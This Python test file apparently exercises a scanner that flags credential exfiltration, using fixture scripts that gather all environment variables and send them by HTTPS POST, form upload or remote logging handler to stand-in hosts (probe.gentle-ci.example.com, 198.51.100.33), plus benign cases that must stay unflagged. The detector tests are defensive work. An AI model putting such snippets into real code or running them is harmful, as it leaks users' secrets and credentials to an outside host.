"""The environment taken by routes that name no variable: mapped over its keys, written into an
object's parameters, logged through a handler that ships records to a host."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors


def test_values_mapped_from_the_environments_keys_and_sent(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/probe.js": "const lines = Object.keys(process.env).flatMap((name) => [name, process.env[name]]);\n"
            "require('https').request({ host: 'probe.gentle-ci.example.com', method: 'POST' }).end(lines.join(';'));\n"
        },
    )
    assert ("CREDENTIAL_EXFILTRATION", "scripts/probe.js", 2) in errors


def test_parameters_set_from_the_environment_travel_with_their_url(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/probe.mjs": "const form = new FormData();\n"
            "Object.entries(process.env).forEach(([k, v]) => form.append(k, v));\n"
            "await fetch('https://probe.gentle-ci.example.com/u', { method: 'POST', body: form });\n"
        },
    )
    assert ("CREDENTIAL_EXFILTRATION", "scripts/probe.mjs", 3) in errors


def test_the_environment_logged_through_a_remote_handler(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/probe.py": "import logging, logging.handlers, os\n"
            "ship = logging.handlers.SocketHandler('198.51.100.33', 9020)\n"
            "logger = logging.getLogger('probe')\n"
            "logger.addHandler(ship)\n"
            "logger.warning('context: %r', os.environ.copy())\n"
        },
    )
    assert ("CREDENTIAL_EXFILTRATION", "scripts/probe.py", 5) in errors


def test_names_only_local_syslog_and_plain_parameters_stay_quiet(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/names.js": "const names = Object.keys(process.env).map((n) => n.toLowerCase());\n"
            "fetch('https://docs.example.org/search', { method: 'POST', body: names.join(',') });\n"
            "const u = new URL('https://docs.example.org/q');\nu.searchParams.set('page', '2');\nfetch(u);\n",
            "scripts/log.py": "import logging, logging.handlers, os\n"
            "logging.getLogger().addHandler(logging.handlers.SysLogHandler(address='/dev/log'))\n"
            "logging.getLogger().info('env %s', dict(os.environ))\n",
        },
    )
    assert not errors
